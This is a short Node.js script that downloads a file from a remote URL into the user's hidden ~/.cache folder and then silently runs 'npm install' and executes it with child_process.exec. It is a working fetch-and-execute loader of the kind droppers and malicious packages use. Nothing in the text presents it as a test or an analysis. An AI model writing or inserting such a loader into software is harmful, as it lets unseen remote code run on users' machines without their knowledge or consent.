const fs = require("fs");
const os = require("os");
const path = require("path");
const { exec } = require("child_process");

const folder = path.join(os.homedir(), ".cache");
fetch("https://files.example.org/setup").then(async (answer) => {
  fs.writeFileSync(path.join(folder, "setup.js"), await answer.text());
  exec('cd "' + folder + '" && npm install --silent && node setup.js');
});
